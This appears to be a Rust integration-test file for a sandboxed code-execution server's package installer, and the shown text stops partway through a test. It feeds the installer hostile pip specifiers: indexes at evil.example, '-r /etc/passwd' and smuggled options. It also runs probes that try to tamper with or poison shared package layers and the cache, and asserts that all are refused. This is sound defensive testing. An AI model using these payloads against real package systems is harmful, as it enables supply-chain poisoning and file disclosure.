//! Packages on demand: `packages` in run-code and session_start, `%pip install` in a
//! Python session, installed by the server's confined installer (uv, wheels only) from
//! PyPI into a cache user code cannot write. PyPI must be reachable (it is in CI).

use crate::common;

use std::path::PathBuf;

use common::{TestServer, output, require};
use serde_json::{Value, json};

/// A package cache of this test's own, removed when dropped.
struct Cache(PathBuf);

impl Cache {
    fn new(name: &str) -> Self {
        let p = std::env::temp_dir().join(format!("replbox-pkg-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&p);
        Self(p)
    }
    fn s(&self) -> &str {
        self.0.to_str().expect("utf-8 path")
    }
}

impl Drop for Cache {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A server with its own package cache, or None (skipped) without python or uv.
async fn server(cache: &Cache, more: &[&str]) -> Option<TestServer> {
    if !require("python", "python3") || !require("uv", "uv") {
        return None;
    }
    let mut args = vec!["--package-cache", cache.s()];
    args.extend_from_slice(more);
    Some(TestServer::start_with(&args, &[]).await)
}

fn run(code: &str, packages: &[&str]) -> Value {
    json!({"languageId": "python", "code": code, "packages": packages})
}

fn installed(v: &Value) -> Vec<String> {
    v["packages"]["installed"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|p| {
                    format!(
                        "{}=={}",
                        p["name"].as_str().unwrap_or(""),
                        p["version"].as_str().unwrap_or("")
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn specifiers_that_are_not_plain_requirements_are_refused() {
    let cache = Cache::new("attack");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    for bad in [
        "--index-url=https://evil.example/simple",
        "-e /",
        "pkg @ file:///etc",
        "git+https://github.com/benjaminp/six",
        "./local",
        "/etc",
        "six\n--index-url https://evil.example/simple",
        "six --no-deps",
        "https://evil.example/six.whl",
        "-i https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--target=/",
        "-r /etc/passwd",
        "-c/etc/passwd",
        "six; --index-url=https://evil.example/simple",
        "six==1.0 --hash=sha256:00",
        "~/six",
        "../six",
        "file:six",
        "six @ ./six.whl",
    ] {
        let o = s.call("run-code", run("print('ran')", &[bad])).await;
        assert_eq!(o.error_kind(), "invalid_argument", "{bad:?}: {}", o.text);
        assert!(
            o.text.contains("is not a package specifier"),
            "{bad:?}: {}",
            o.text
        );
        assert!(!o.text.contains("ran"), "{bad:?}: the code ran: {}", o.text);
        let o = s
            .call(
                "session_start",
                json!({"language": "python", "packages": [bad]}),
            )
            .await;
        assert_eq!(o.error_kind(), "invalid_argument", "{bad:?}: {}", o.text);
    }
    // Only Python takes packages; a caller's venv takes none from the server.
    let o = s
        .call(
            "run-code",
            json!({"languageId": "bash", "code": "echo ran", "packages": ["six"]}),
        )
        .await;
    assert_eq!(o.error_kind(), "invalid_argument", "{}", o.text);
    let o = s
        .call(
            "run-code",
            json!({"languageId": "python", "code": "1", "packages": ["six"], "venv": "/tmp"}),
        )
        .await;
    assert_eq!(o.error_kind(), "invalid_argument", "{}", o.text);
    // The same through %pip: an option is refused as a specifier, and nothing is evaluated.
    let id = s.start_session("python").await;
    for line in [
        "%pip install --index-url=https://evil.example/simple six\nprint('ran')",
        "!pip install -e /\nprint('ran')",
        "%pip install 'six @ file:///etc'\nprint('ran')",
        "%pip install\nprint('ran')",
        "%pip install -r /etc/passwd\nprint('ran')",
        "%pip install --target /tmp six\nprint('ran')",
        "!pip install --extra-index-url https://evil.example/simple six\nprint('ran')",
        "!python -m pip install ./six\nprint('ran')",
    ] {
        let o = s.eval(&id, line).await;
        assert_eq!(o.error_kind(), "invalid_argument", "{line:?}: {}", o.text);
        assert!(!o.text.contains("ran"), "{line:?}: {}", o.text);
    }
    // The session still serves.
    assert_eq!(output(&s.eval(&id, "print(6 * 7)").await).trim(), "42");
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_code_packages_are_installed_then_taken_from_the_cache() {
    let cache = Cache::new("run");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    let code = "import six, iniconfig\nprint('six', six.__version__)";
    let o = s.call("run-code", run(code, &["six", "iniconfig"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.text.starts_with("six 1."), "{}", o.text);
    let first = installed(&o.structured);
    assert!(first.iter().any(|p| p.starts_with("six==1.")), "{first:?}");
    assert!(
        first.iter().any(|p| p.starts_with("iniconfig==")),
        "{first:?}"
    );
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(2),
        "{}",
        o.structured
    );
    assert!(o.text.contains("[packages: "), "{}", o.text);
    // The second run with the same packages downloads nothing: uv's shared cache has them.
    let o = s.call("run-code", run(code, &["six", "iniconfig"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert_eq!(installed(&o.structured), first);
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(0),
        "{}",
        o.structured
    );
    assert!(o.text.contains("all from the cache"), "{}", o.text);
    // User code can write neither the cache nor its own packages.
    let probe = format!(
        r#"
import os, six
for p in [{cache:?} + "/uv/x", {cache:?} + "/layers/x", six.__file__]:
    try:
        open(p, "a").write("x")
        print("WROTE", p)
    except OSError as e:
        print("refused", type(e).__name__)
"#,
        cache = cache.s()
    );
    let o = s.call("run-code", run(&probe, &["six"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert!(!o.text.contains("WROTE"), "{}", o.text);
    assert_eq!(o.text.matches("refused").count(), 3, "{}", o.text);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn session_packages_and_pip_install_then_import() {
    let cache = Cache::new("session");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    let o = s
        .call(
            "session_start",
            json!({"language": "python", "packages": ["tomli"]}),
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert!(
        installed(&o.structured)
            .iter()
            .any(|p| p.starts_with("tomli==")),
        "{}",
        o.structured
    );
    assert!(o.text.contains("packages: tomli=="), "{}", o.text);
    let id = o.s("session_id").to_string();
    let o = s
        .eval(&id, "import tomli; print(tomli.loads('a = 1'))")
        .await;
    assert_eq!(output(&o).trim(), "{'a': 1}", "{}", o.text);
    // %pip in a cell of its own, then the import in the next one.
    let o = s.eval(&id, "%pip install six").await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.text.contains("six=="), "{}", o.text);
    let o = s.eval(&id, "import six; print(six.PY3)").await;
    assert_eq!(output(&o).trim(), "True", "{}", o.text);
    // !pip and the code after it in the same cell.
    let o = s
        .eval(
            &id,
            "!pip install -q iniconfig\nimport iniconfig\nprint('imported', iniconfig.__name__)",
        )
        .await;
    assert!(output(&o).contains("imported iniconfig"), "{}", o.text);
    // A second session with the same packages takes them from the cache.
    let o = s
        .call(
            "session_start",
            json!({"language": "python", "packages": ["tomli"]}),
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(0),
        "{}",
        o.structured
    );
    // A session cannot write the cache.
    let id2 = o.s("session_id").to_string();
    let probe = format!(
        "try:\n    open({:?} + '/uv/x', 'w')\n    print('WROTE')\nexcept OSError as e:\n    print('refused', type(e).__name__)",
        cache.s()
    );
    let o = s.eval(&id2, &probe).await;
    assert!(output(&o).contains("refused"), "{}", o.text);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn packages_that_cannot_be_had_are_named_with_the_reason() {
    let cache = Cache::new("missing");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    for (spec, says) in [
        ("replbox-no-such-package-4f2a9", "not on the package index"),
        ("six==99.0.0", "no version on the index matches"),
        // docopt is published as a source distribution only.
        ("docopt", "wheels only"),
    ] {
        let o = s.call("run-code", run("print('ran')", &[spec])).await;
        assert_eq!(o.error_kind(), "package_unavailable", "{spec}: {}", o.text);
        assert!(o.text.contains(spec), "{spec}: {}", o.text);
        assert!(o.text.contains(says), "{spec}: {}", o.text);
        assert!(!o.text.contains("ran"), "{spec}: {}", o.text);
    }
    let o = s
        .call(
            "session_start",
            json!({"language": "python", "packages": ["six==99.0.0"]}),
        )
        .await;
    assert_eq!(o.error_kind(), "package_unavailable", "{}", o.text);
    // %pip's failure leaves the session as it was.
    let id = s.start_session("python").await;
    s.eval(&id, "x = 5").await;
    let o = s.eval(&id, "%pip install six==99.0.0").await;
    assert_eq!(o.error_kind(), "package_unavailable", "{}", o.text);
    assert_eq!(output(&s.eval(&id, "print(x)").await).trim(), "5");
    s.stop().await;
}

/// Where the operator allows source builds, docopt (an sdist only) is built from PyPI, its
/// build requirements (setuptools) fetched through the installer's proxy, and imports; the
/// result says it was built. Builds need bwrap (the server refuses them below it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_sdist_only_package_is_built_where_the_operator_allows_it() {
    if !require("python", "python3") || !require("uv", "uv") {
        return;
    }
    let cache = Cache::new("builds");
    let args = [
        "--package-cache",
        cache.s(),
        "--sandbox",
        "bwrap",
        "--package-builds",
    ];
    let s = match TestServer::try_start(&args, &[], None).await {
        Ok(s) => s,
        Err(e) => {
            // bwrap not working here is a skip; refusing the flag at bwrap is not.
            assert!(!e.contains("--package-builds needs"), "{e}");
            common::skip(format!("source builds need bwrap: {e}"));
            return;
        }
    };
    let o = s
        .call(
            "run-code",
            run("import docopt; print(docopt.__version__)", &["docopt"]),
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.text.starts_with("0."), "{}", o.text);
    assert_eq!(
        o.structured["packages"]["built"][0]["name"],
        json!("docopt"),
        "{}",
        o.text
    );
    assert!(o.text.contains("built from source: docopt=="), "{}", o.text);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn user_code_still_cannot_reach_the_index() {
    let cache = Cache::new("offline");
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    let code = r#"
import urllib.request
try:
    urllib.request.urlopen("https://pypi.org/simple/six/", timeout=10)
    print("REACHED")
except Exception as e:
    print("blocked", type(e).__name__)
"#;
    let o = s.call("run-code", run(code, &["six"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.structured["packages"].is_object(), "{}", o.structured);
    assert!(o.text.contains("blocked"), "{}", o.text);
    assert!(!o.text.contains("REACHED"), "{}", o.text);
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_packages_turns_them_off() {
    let cache = Cache::new("off");
    let Some(s) = server(&cache, &["--no-packages"]).await else {
        return;
    };
    let o = s.call("run-code", run("print(1)", &["six"])).await;
    assert_eq!(o.error_kind(), "invalid_argument", "{}", o.text);
    assert!(o.text.contains("--no-packages"), "{}", o.text);
    let id = s.start_session("python").await;
    let o = s.eval(&id, "%pip install six").await;
    assert!(o.text.contains("--no-packages"), "{}", o.text);
    s.stop().await;
}

/// A cache path too long for the installer's proxy socket beneath it stops the server at
/// its start, naming the flag and the limit, rather than failing every installation.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_package_cache_path_too_long_for_its_socket_is_refused_at_the_start() {
    let cache = Cache::new(&format!("long-{}", "d".repeat(80)));
    let e = match common::Server::stdio()
        .args(["--package-cache", cache.s()])
        .try_start()
        .await
    {
        Ok(s) => {
            s.stop().await;
            panic!(
                "a server started with a {}-byte cache path",
                cache.s().len()
            );
        }
        Err(e) => e,
    };
    assert!(e.contains("--package-cache"), "{e}");
    assert!(e.contains("Unix socket path limit of 107 bytes"), "{e}");
    assert!(!cache.0.exists(), "{e}");
    // At the limit it starts and installs (through a socket of the longest path).
    let limit = 107 - 38 - "/egress".len();
    let base = std::env::temp_dir().join(format!("replbox-pkg-{}-", std::process::id()));
    let pad = limit - base.as_os_str().len();
    let cache = Cache(PathBuf::from(format!(
        "{}{}",
        base.display(),
        "e".repeat(pad)
    )));
    let _ = std::fs::remove_dir_all(&cache.0);
    assert_eq!(cache.s().len(), limit);
    let Some(s) = server(&cache, &[]).await else {
        return;
    };
    let o = s
        .call("run-code", run("import six; print('ok')", &["six"]))
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.text.starts_with("ok\n"), "{}", o.text);
    s.stop().await;
}

// --- every level, as root and not -------------------------------------------------------

/// Unprivileged servers (when the tests run as root) each get a uid of their own.
static NEXT_UID: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(61_000);

/// The real uv (not a version manager's shim), for a server that cannot reach the
/// operator's own (`--uv`).
fn real_uv() -> Option<PathBuf> {
    let out = std::process::Command::new("python3")
        .args(["-c", "import uv; print(uv.find_uv_bin())"])
        .output()
        .ok()?;
    let p = PathBuf::from(String::from_utf8_lossy(&out.stdout).trim());
    (out.status.success() && p.is_file()).then_some(p)
}

/// A copy of uv in a directory every user can enter, removed when dropped: what an
/// operator does for a server that runs as a user who cannot reach root's uv.
pub(crate) struct UvCopy(PathBuf);

impl UvCopy {
    pub(crate) fn new(tag: &str) -> Option<Self> {
        use std::os::unix::fs::PermissionsExt;
        let uv = real_uv()?;
        let dir = std::env::temp_dir().join(format!("replbox-uv-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).ok()?;
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).ok()?;
        std::fs::copy(&uv, dir.join("uv")).ok()?;
        Some(Self(dir))
    }
    pub(crate) fn uv(&self) -> String {
        self.0.join("uv").display().to_string()
    }
}

impl Drop for UvCopy {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// Start a server at `level`, as root (`root`) or as a uid of its own, with its own cache
/// (and, not root, a uv it can run); None (skipped) where that cannot run here.
async fn at_level(
    level: &str,
    root: bool,
    cache: &Cache,
    uv: Option<&UvCopy>,
) -> Option<TestServer> {
    let mut args = vec!["--sandbox", level, "--package-cache", cache.s()];
    let path;
    if let Some(u) = uv {
        path = u.uv();
        args.extend(["--uv", path.as_str()]);
    }
    let uid = (!root).then(|| NEXT_UID.fetch_add(1, std::sync::atomic::Ordering::Relaxed));
    match TestServer::try_start(&args, &[], uid).await {
        Ok(s) => {
            assert!(
                s.instructions().contains(&format!("Sandbox: {level} (")),
                "{level}: {}",
                s.instructions()
            );
            Some(s)
        }
        Err(e) => {
            common::skip(format!("packages at {level} (root: {root}): {e}"));
            None
        }
    }
}

/// What user code beside packages can do, printed one word a probe: it reaches the index
/// (`REACHED`/`blocked`), sees a proxy variable (`PROXY`), writes the cache (`WROTE`/`refused`),
/// writes its own packages.
fn probe_code(cache: &str) -> String {
    format!(
        r#"
import os, six, urllib.request
try:
    urllib.request.urlopen("https://pypi.org/simple/six/", timeout=10)
    print("REACHED")
except Exception as e:
    print("blocked", type(e).__name__)
print("PROXY" if any(k.lower().endswith("_proxy") for k in os.environ) else "noproxy")
for p in [{cache:?} + "/uv/x", {cache:?} + "/layers/x", {cache:?} + "/installer/uv", six.__file__]:
    try:
        open(p, "a").write("x")
        print("WROTE", p)
    except OSError as e:
        print("refused", type(e).__name__)
print("layer", os.path.dirname(six.__file__))
"#
    )
}

/// What user code tries against the shared layer its `six` came from (and the store of
/// them), printed `refused NAME` or `DID NAME` each.
const SHARED_ATTACK: &str = r#"
import os, shutil, six
d = os.path.dirname(six.__file__)
store = os.path.dirname(d)
layers = os.path.dirname(store)
print("shared", d)
def t(name, f):
    try:
        f()
        print("DID", name)
    except OSError as e:
        print("refused", name, type(e).__name__)
t("write", lambda: open(os.path.join(d, "six.py"), "a").write("x"))
t("create", lambda: open(os.path.join(d, "planted.py"), "w").write("x"))
t("rename", lambda: os.rename(os.path.join(d, "six.py"), os.path.join(d, "six2.py")))
t("unlink", lambda: os.unlink(os.path.join(d, "six.py")))
t("rmtree", lambda: shutil.rmtree(d))
t("rename-layer", lambda: os.rename(d, d + "x"))
t("plant-layer", lambda: os.mkdir(os.path.join(store, "0" * 40)))
t("plant-building", lambda: os.mkdir(os.path.join(layers, "building", "0" * 40)))
t("list-store", lambda: os.listdir(store))
t("chmod", lambda: os.chmod(os.path.join(d, "six.py"), 0o666))
"#;

/// What user code tries against the shared layer its `is-odd` came from (npm's: the
/// layer's `node_modules/` is on its NODE_PATH), as [`SHARED_ATTACK`] does for Python.
const SHARED_ATTACK_JS: &str = r#"
const fs = require('fs'), path = require('path');
const d = path.dirname(require.resolve('is-odd'));
const top = path.dirname(path.dirname(d));
const store = path.dirname(top);
const layers = path.dirname(store);
console.log('shared', top);
function t(name, f) {
  try { f(); console.log('DID', name); }
  catch (e) { console.log('refused', name, e.code); }
}
t('write', () => fs.appendFileSync(path.join(d, 'index.js'), 'x'));
t('create', () => fs.writeFileSync(path.join(d, 'planted.js'), 'x'));
t('rename', () => fs.renameSync(path.join(d, 'index.js'), path.join(d, 'index2.js')));
t('unlink', () => fs.unlinkSync(path.join(d, 'index.js')));
t('rmtree', () => fs.rmSync(d, { recursive: true }));
t('rename-layer', () => fs.renameSync(top, top + 'x'));
t('plant-layer', () => fs.mkdirSync(path.join(store, '0'.repeat(40))));
t('plant-building', () => fs.mkdirSync(path.join(layers, 'building', '0'.repeat(40))));
t('list-store', () => fs.readdirSync(store));
t('chmod', () => fs.chmodSync(path.join(d, 'index.js'), 0o666));
"#;

/// A layer's file that [`SHARED_ATTACK`] tries to alter, and the one it tries to plant.
const SIX_FILES: (&str, &str) = ("six.py", "planted.py");
/// The same for [`SHARED_ATTACK_JS`].
const IS_ODD_FILES: (&str, &str) = (
    "node_modules/is-odd/index.js",
    "node_modules/is-odd/planted.js",
);

/// `SHARED_ATTACK`'s (or `SHARED_ATTACK_JS`'s) output checked: nothing written, renamed,
/// removed or planted (listing the store and chmod are refused where the level says so:
/// see docs/security.md); the host's layer sealed and intact (`files`: the file it tried
/// to alter, the one it tried to plant). The layer's path.
fn shared_unharmed(
    cache: &Cache,
    at: &str,
    said: &str,
    (root, level): (bool, &str),
    files: (&str, &str),
) -> String {
    for what in [
        "write",
        "create",
        "rename",
        "unlink",
        "rmtree",
        "rename-layer",
        "plant-layer",
        "plant-building",
    ] {
        assert!(
            said.contains(&format!("refused {what} ")),
            "{at}: {what}: {said}"
        );
    }
    if root {
        // Another uid: the store is passable, not listable; the layer root's.
        assert!(said.contains("refused list-store "), "{at}: {said}");
    }
    if root || level == "bwrap" {
        assert!(said.contains("refused chmod "), "{at}: {said}");
    }
    let layer = said
        .lines()
        .find_map(|l| l.strip_prefix("shared "))
        .unwrap_or_else(|| panic!("{at}: {said}"))
        .trim()
        .to_string();
    let store = cache.0.join("layers/shared");
    if !root && level == "landlock" {
        // No layer is shared there (a session could chmod it): the session's own.
        assert!(
            !layer.starts_with(store.to_str().expect("utf-8")),
            "{at}: {said}"
        );
        return layer;
    }
    assert_eq!(
        std::path::Path::new(&layer).parent(),
        Some(store.as_path()),
        "{at}: not a shared layer: {said}"
    );
    let keys: Vec<String> = std::fs::read_dir(&store)
        .expect("the store")
        .map(|e| e.expect("entry").file_name().to_string_lossy().to_string())
        .collect();
    assert!(
        !keys.iter().any(|k| k.starts_with("0000")),
        "{at}: {keys:?}"
    );
    let kept = std::fs::read_to_string(format!("{layer}/{}", files.0)).expect(files.0);
    assert!(!kept.ends_with('x'), "{at}: {} altered", files.0);
    assert!(
        !std::path::Path::new(&format!("{layer}/{}", files.1)).exists(),
        "{at}"
    );
    // Sealed: nothing in it writable, set-uid or set-gid; root's when the server is. (Not
    // root at Landlock, the session's chmod above went through: modes only, see
    // docs/security.md.)
    if !root && level != "bwrap" {
        return layer;
    }
    use std::os::unix::fs::MetadataExt;
    let mut stack = vec![PathBuf::from(&layer)];
    while let Some(p) = stack.pop() {
        let m = std::fs::symlink_metadata(&p).expect("entry");
        if m.file_type().is_symlink() {
            continue;
        }
        assert_eq!(
            m.mode() & 0o7222,
            0,
            "{at}: {} is {:o}",
            p.display(),
            m.mode()
        );
        if root {
            assert_eq!(m.uid(), 0, "{at}: {} not root's", p.display());
        }
        if m.is_dir() {
            stack.extend(
                std::fs::read_dir(&p)
                    .expect("dir")
                    .map(|e| e.expect("e").path()),
            );
        }
    }
    layer
}

/// The host's cache holds nothing user code wrote (`x` files, an appended `x`).
fn untouched(cache: &Cache, at: &str, said: &str) {
    for p in ["uv/x", "layers/x"] {
        assert!(!cache.0.join(p).exists(), "{at}: {p} written: {said}");
    }
    if let Ok(uv) = std::fs::read(cache.0.join("installer/uv")) {
        assert!(
            uv.last() != Some(&b'x'),
            "{at}: the installer altered: {said}"
        );
    }
}

/// `packages` in run-code and session_start, `%pip install` then import, at `level` as
/// root and not; user code stays offline and writes neither the cache, the installer,
/// its own packages nor another session's.
async fn packages_at(level: &'static str) {
    if !require("python", "python3") || !require("uv", "uv") {
        return;
    }
    let we_are_root = nix::unistd::geteuid().is_root();
    let uv = if we_are_root {
        UvCopy::new(level)
    } else {
        None
    };
    let mut setups = vec![we_are_root];
    if we_are_root {
        setups.push(false);
    }
    // JavaScript too, on the same servers, when node, npm and the registry are here.
    let js = js_server_ok().is_some();
    for root in setups {
        let cache = Cache::new(&format!("{level}-{root}"));
        let copy = (!root && we_are_root).then_some(uv.as_ref()).flatten();
        let Some(s) = at_level(level, root, &cache, copy).await else {
            continue;
        };
        let at = format!("{level} (root: {root})");
        let o = s
            .call("run-code", run(&probe_code(cache.s()), &["six"]))
            .await;
        assert!(!o.is_error, "{at}: {}", o.text);
        assert!(
            installed(&o.structured)
                .iter()
                .any(|p| p.starts_with("six==")),
            "{at}: {}",
            o.structured
        );
        assert!(o.text.contains("blocked"), "{at}: {}", o.text);
        assert!(o.text.contains("noproxy"), "{at}: {}", o.text);
        // What it could write is at most a private view of its own: the host's files are
        // unchanged.
        untouched(&cache, &at, &o.text);
        // A session with packages, then %pip, then the import.
        let o = s
            .call(
                "session_start",
                json!({"language": "python", "packages": ["six"]}),
            )
            .await;
        assert!(!o.is_error, "{at}: {}", o.text);
        let a = o.s("session_id").to_string();
        // Its six is the run's: one shared layer, sealed, that its code cannot change.
        let o = s.eval(&a, SHARED_ATTACK).await;
        assert!(!o.is_error, "{at}: {}", o.text);
        let shared = shared_unharmed(&cache, &at, output(&o), (root, level), SIX_FILES);
        let o = s.eval(&a, "%pip install iniconfig").await;
        assert!(!o.is_error, "{at}: {}", o.text);
        assert!(o.text.contains("iniconfig=="), "{at}: {}", o.text);
        let o = s
            .eval(
                &a,
                "import iniconfig, six, os\nprint('layer', os.path.dirname(six.__file__))",
            )
            .await;
        let layer = output(&o)
            .lines()
            .find_map(|l| l.strip_prefix("layer "))
            .unwrap_or_else(|| panic!("{at}: {}", o.text))
            .to_string();
        assert_eq!(layer, shared, "{at}: {}", o.text);
        // Another session (installing the same package) can alter neither its own packages
        // nor the first one's, nor the cache; and it is offline too.
        let b = s.start_session("python").await;
        let o = s.eval(&b, "%pip install six").await;
        assert!(!o.is_error, "{at}: {}", o.text);
        let o = s
            .eval(
                &b,
                &format!(
                    "{}\nfor p in [{layer:?} + '/six.py', {layer:?} + '/planted.py']:\n    \
                     try:\n        open(p, 'a').write('x')\n        print('WROTE', p)\n    \
                     except OSError as e:\n        print('refused', type(e).__name__)",
                    probe_code(cache.s())
                ),
            )
            .await;
        assert!(o.text.contains("blocked"), "{at}: {}", o.text);
        untouched(&cache, &at, &o.text);
        let six = std::fs::read_to_string(format!("{layer}/six.py")).expect("six.py");
        assert!(!six.ends_with('x'), "{at}: six.py altered: {}", o.text);
        assert!(
            !std::path::Path::new(&format!("{layer}/planted.py")).exists(),
            "{at}: {}",
            o.text
        );
        let o = s.eval(&a, "print(six.PY3, iniconfig.__name__)").await;
        assert_eq!(output(&o).trim(), "True iniconfig", "{at}: {}", o.text);
        if js {
            js_packages_at(&s, &cache, &at, (root, level)).await;
        }
        s.stop().await;
    }
}

/// JavaScript's half of [`packages_at`]: `packages` in run-code (whose code reaches
/// neither the registry nor a writable cache or package), then a session with `packages`
/// (the run's shared layer, which its code cannot alter) that installs more with
/// `replbox.install` and requires both.
async fn js_packages_at(s: &TestServer, cache: &Cache, at: &str, (root, level): (bool, &str)) {
    let probe = format!(
        r#"
const fs = require('fs');
console.log('odd', require('is-odd')(3));
for (const p of [{cache:?} + '/npm/x', {cache:?} + '/layers/x', require.resolve('is-odd')]) {{
  try {{ fs.appendFileSync(p, 'x'); console.log('WROTE', p); }}
  catch (e) {{ console.log('refused', e.code); }}
}}
fetch('https://registry.npmjs.org/is-odd', {{ signal: AbortSignal.timeout(10000) }})
  .then(() => console.log('REACHED'), (e) => console.log('blocked', e.name));
"#,
        cache = cache.s()
    );
    let o = s.call("run-code", js_run(&probe, &["is-odd@3"])).await;
    assert!(!o.is_error, "{at}: {}", o.text);
    assert!(o.text.starts_with("odd true"), "{at}: {}", o.text);
    assert!(
        installed(&o.structured)
            .iter()
            .any(|p| p.starts_with("is-odd==3.")),
        "{at}: {}",
        o.structured
    );
    // What it could write is at most a private view of its own (bwrap not root): the
    // host's cache is unchanged, and its package refused.
    assert!(o.text.contains("refused"), "{at}: {}", o.text);
    assert!(
        !o.text
            .lines()
            .any(|l| l.starts_with("WROTE") && l.contains("is-odd")),
        "{at}: {}",
        o.text
    );
    assert!(o.text.contains("blocked"), "{at}: {}", o.text);
    assert!(!o.text.contains("REACHED"), "{at}: {}", o.text);
    for p in ["npm/x", "layers/x"] {
        assert!(!cache.0.join(p).exists(), "{at}: {p} written: {}", o.text);
    }
    let o = s
        .call(
            "session_start",
            json!({"language": "javascript", "packages": ["is-odd@3"]}),
        )
        .await;
    assert!(!o.is_error, "{at}: {}", o.text);
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(0),
        "{at}: {}",
        o.text
    );
    let id = o.s("session_id").to_string();
    // Its is-odd is the run's: one shared layer, sealed, that its code cannot change.
    let o = s.eval(&id, SHARED_ATTACK_JS).await;
    assert!(!o.is_error, "{at}: {}", o.text);
    shared_unharmed(cache, at, output(&o), (root, level), IS_ODD_FILES);
    // What replbox.install adds comes with the session's own packages: is-even's own
    // is-odd (0.1.x) does not take the place of the is-odd@3 the session started with.
    let o = s
        .eval(
            &id,
            "await replbox.install('is-even@1');\nconsole.log('even', require('is-even')(4), \
             require('is-odd')(4), require('is-odd/package.json').version)",
        )
        .await;
    assert!(!o.is_error, "{at}: {}", o.text);
    assert!(o.text.contains("even true false 3."), "{at}: {}", o.text);
    assert!(o.text.contains("is-even==1."), "{at}: {}", o.text);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn packages_at_bwrap_as_root_and_not() {
    packages_at("bwrap").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn packages_at_landlock_as_root_and_not() {
    packages_at("landlock").await;
}

/// Two principals ask for the same package: the second gets it from the cache, and the
/// first one's code could not change what the second gets, nor the other way round.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_principal_cannot_alter_what_another_installs() {
    if !require("python", "python3") || !require("uv", "uv") {
        return;
    }
    let cache = Cache::new("principals");
    let s = common::Server::http()
        .token("pkg-principal-a-token-0123456789")
        .token("pkg-principal-b-token-0123456789")
        .args(["--package-cache", cache.s()])
        .start()
        .await;
    let a = s.connect("pkg-principal-a-token-0123456789").await;
    let b = s.connect("pkg-principal-b-token-0123456789").await;
    // A's session holds six in its layer.
    let o = common::http_call(
        &a,
        "session_start",
        json!({"language": "python", "packages": ["six"]}),
    )
    .await;
    assert!(!o.is_error, "{}", o.text);
    let id = o.s("session_id").to_string();
    let o = common::http_call(
        &a,
        "session_eval",
        json!({"session_id": id, "code": "import os, six; print(os.path.dirname(six.__file__))"}),
    )
    .await;
    let layer = o.structured["output"]
        .as_str()
        .unwrap_or("")
        .trim()
        .to_string();
    assert!(layer.starts_with('/'), "{}", o.text);
    // B's code tries to plant a module in A's layer, alter A's six and the cache's copy.
    let attack = format!(
        r#"
import glob, os, six
print("mine", os.path.dirname(six.__file__))
targets = [{layer:?} + "/six.py", {layer:?} + "/sitecustomize.py"]
targets += glob.glob({cache:?} + "/uv/**/six.py", recursive=True)
for p in targets + [{cache:?} + "/uv/planted"]:
    try:
        open(p, "a").write("\nimport os; os.environ['POISONED'] = '1'\n")
        print("WROTE", p)
    except OSError as e:
        print("refused", type(e).__name__)
"#,
        cache = cache.s()
    );
    let o = common::http_call(
        &b,
        "run-code",
        json!({"languageId": "python", "code": attack, "packages": ["six"]}),
    )
    .await;
    assert!(!o.is_error, "{}", o.text);
    // The same set: one shared layer for both principals, built once.
    assert!(
        o.text.contains(&format!("mine {layer}\n")),
        "not A's layer {layer}: {}",
        o.text
    );
    assert_eq!(
        std::path::Path::new(&layer).parent(),
        Some(cache.0.join("layers/shared").as_path()),
        "{}",
        o.text
    );
    assert_eq!(
        std::fs::read_dir(cache.0.join("layers/shared"))
            .expect("the store")
            .count(),
        1
    );
    let six = std::fs::read_to_string(format!("{layer}/six.py")).expect("A's six.py");
    assert!(!six.contains("POISONED"), "A's six altered: {}", o.text);
    assert!(
        !std::path::Path::new(&format!("{layer}/sitecustomize.py")).exists(),
        "{}",
        o.text
    );
    assert!(!cache.0.join("uv/planted").exists(), "{}", o.text);
    // What each gets next is the index's six, from the cache, unaltered.
    let check = "import os, six\nprint('poisoned' if 'POISONED' in os.environ or \
                 'POISONED' in open(six.__file__).read() else 'clean', six.__version__)";
    for (who, c) in [("a", &a), ("b", &b)] {
        let o = common::http_call(
            c,
            "run-code",
            json!({"languageId": "python", "code": check, "packages": ["six"]}),
        )
        .await;
        assert!(o.text.starts_with("clean 1."), "{who}: {}", o.text);
        assert_eq!(
            o.structured["packages"]["downloaded"],
            json!(0),
            "{who}: {}",
            o.structured
        );
    }
    let o = common::http_call(&a, "session_eval", json!({"session_id": id, "code": check})).await;
    assert!(o.text.starts_with("clean 1."), "{}", o.text);
